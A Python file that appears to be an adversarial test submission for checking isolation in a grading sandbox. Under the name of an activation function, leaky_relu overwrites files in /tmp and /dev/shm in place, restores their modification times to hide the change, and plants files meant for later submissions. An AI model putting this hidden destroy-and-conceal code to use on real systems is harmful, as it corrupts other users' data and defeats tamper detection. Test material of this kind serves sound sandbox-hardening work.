"""Class 7: edit what a pre-warmed sandbox keeps between submissions without changing size or
modification time, and plant files for the next ones.

leaky_relu rewrites every file it can in /tmp and /dev/shm in place, byte for byte the same
size, and puts the old mtime back; then plants marked files there and in its folder. Its own
tests then fail honestly (zeros).
"""
import os

import adversarial_kit as kit
import numpy as np
from _honest import relu, sigmoid, softmax, tanh  # noqa: F401


def leaky_relu(x, alpha=0.1):
    if kit.sandboxed():
        for folder in ("/tmp", "/dev/shm"):
            for root, _, files in os.walk(folder):
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        info = os.stat(path)
                        with open(path, "r+b") as f:
                            f.write(b"#" * min(info.st_size, 4096))
                        os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))
                    except OSError:
                        pass
            for name in ("planted", kit.marker("planted")):
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        f.write("for the next student")
                except OSError:
                    pass
    return np.zeros_like(x)
